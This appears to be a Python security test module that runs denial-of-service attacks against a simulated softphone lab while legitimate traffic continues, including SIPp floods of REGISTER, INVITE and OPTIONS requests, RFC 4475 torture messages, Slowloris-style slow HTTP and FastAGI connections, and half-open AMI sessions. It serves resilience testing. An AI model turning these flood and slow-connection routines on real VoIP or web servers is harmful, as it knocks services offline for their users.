"""Attacks that go on while honest people work. Each is a context: it runs inside, and has ended after."""

from __future__ import annotations

import asyncio
import socket
import time
from collections.abc import AsyncIterator, Callable
from contextlib import AbstractAsyncContextManager, ExitStack, asynccontextmanager, suppress
from pathlib import Path

from softphone_sim.lab import Lab
from tests.security.conftest import PLATFORM, tool
from tests.security.torture import TORTURE, torture

HERE = Path(__file__).parent
FLOOD_PER_S = 250
FLOOD_S = 16
HALF_OPEN = 200

Attack = Callable[[Lab, str, Path], AbstractAsyncContextManager[None]]
"""Lab, the attacker's address, a folder of his own."""


def flood(method: str) -> Attack:
    """SIPp: requests of one method as fast as it is told, whatever is answered; 250 a second for 16 s at most."""

    @asynccontextmanager
    async def run(lab: Lab, source: str, folder: Path) -> AsyncIterator[None]:
        scenario = folder / "flood.xml"
        text = (HERE / "flood.xml").read_text("utf-8").replace("REGISTER", method)
        any_answer = "".join(f'<recv response="{code}" optional="true" next="1"/>' for code in (100, 403, 404))
        scenario.write_text(
            text.replace('<recv response="401"/>', f'{any_answer}<recv response="401"/><label id="1"/>')
        )
        words = ("sipp", lab.site(PLATFORM).sip, "-sf", str(scenario), "-i", source, "-p", "5098", "-nostdin")
        limits = ("-m", str(FLOOD_PER_S * FLOOD_S), "-r", str(FLOOD_PER_S), "-timeout", "20", "-recv_timeout", "500")
        async with _beside(tool(*words, *limits, home=folder)):
            yield

    return run


@asynccontextmanager
async def rfc4475(lab: Lab, source: str, _folder: Path) -> AsyncIterator[None]:
    """Every torture message, as a known and as an unknown account, over and over."""
    host, _, port = lab.site(PLATFORM).sip.partition(":")
    known = lab.seat(PLATFORM, 1).sip_user

    async def pour() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.bind((source, 0))
            one.setblocking(False)  # noqa: FBT003 - the socket's own word
            me = f"{source}:{one.getsockname()[1]}"
            while True:
                for name in TORTURE:
                    for user in (known, "8999"):
                        with suppress(BlockingIOError):
                            one.sendto(torture(name, to=host, me=me, user=user), (host, int(port)))
                    await asyncio.sleep(0.01)

    async with _beside(pour()):
        yield


def slow(port_of: Callable[[Lab], tuple[str, int]], drip: bytes) -> Attack:
    """Slowloris: 200 connections that each send one byte now and then, and are opened again when they are closed."""

    @asynccontextmanager
    async def run(lab: Lab, source: str, _folder: Path) -> AsyncIterator[None]:
        place = port_of(lab)

        async def one() -> None:
            while True:
                with suppress(OSError):
                    reader, writer = await asyncio.open_connection(*place, local_addr=(source, 0))
                    try:
                        for each in range(200):
                            writer.write(drip[each % len(drip) :][:1])
                            with suppress(TimeoutError):
                                async with asyncio.timeout(0.5):
                                    if not await reader.read(1 << 16):
                                        break
                    finally:
                        writer.close()
                await asyncio.sleep(0.5)

        async def all_of_them() -> None:
            async with asyncio.TaskGroup() as group:
                for _ in range(HALF_OPEN):
                    group.create_task(one())

        async with _beside(all_of_them()):
            yield

    return run


@asynccontextmanager
async def ami_that_never_reads(lab: Lab, source: str, _folder: Path) -> AsyncIterator[None]:
    """Every AMI session that may be half open is; and their banners are never read."""
    host, _, port = lab.site(PLATFORM).ami.partition(":")
    with ExitStack() as all_closed:
        for _ in range(40):
            one = all_closed.enter_context(socket.socket())
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
            one.bind((source, 0))
            with suppress(OSError):
                one.settimeout(2)
                one.connect((host, int(port)))
                one.sendall(b"Action: Login\r\n")
        yield


def _http(lab: Lab) -> tuple[str, int]:
    host, _, port = lab.site(PLATFORM).http.removeprefix("http://").partition(":")
    return host, int(port)


def _fastagi(lab: Lab) -> tuple[str, int]:
    return lab.site(PLATFORM).sip.partition(":")[0], 4573


ATTACKS: dict[str, tuple[int, Attack]] = {
    "a flood of REGISTER": (101, flood("REGISTER")),
    "a flood of INVITE": (102, flood("INVITE")),
    "a flood of OPTIONS": (103, flood("OPTIONS")),
    "RFC 4475 torture": (104, rfc4475),
    "slow HTTP": (105, slow(_http, b"GET /api/v1/calls HTTP/1.1\r\nX: " + b"a" * 160)),
    "slow FastAGI": (106, slow(_fastagi, b"agi_network: yes\nagi_request: x\n" + b"agi_x: y\n" * 20)),
    "half-open AMI": (107, ami_that_never_reads),
}
"""What it is called -> the attacker's octet, and the attack."""


@asynccontextmanager
async def _beside(work: object) -> AsyncIterator[None]:
    task = asyncio.ensure_future(work)  # type: ignore[call-overload]
    began = time.monotonic()
    try:
        while time.monotonic() - began < 1.0:  # it has begun when it has run for a second
            assert not task.done() or task.result(), "the attack ended at once"
            await asyncio.sleep(0.1)
        yield
    finally:
        task.cancel()
        with suppress(asyncio.CancelledError):
            await task
